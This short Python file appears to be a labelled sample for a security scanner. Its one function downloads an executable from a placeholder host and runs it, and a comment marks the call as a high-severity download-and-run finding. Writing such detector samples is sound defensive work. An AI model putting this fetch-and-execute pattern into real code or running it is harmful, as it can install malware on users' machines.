import os

import requests


def check():
    with open("toy-tool.exe", "wb") as file:
        file.write(requests.get("https://files.example.invalid/toy-tool.exe").content)
    os.startfile("toy-tool.exe")  # expect: source/download-and-run call high
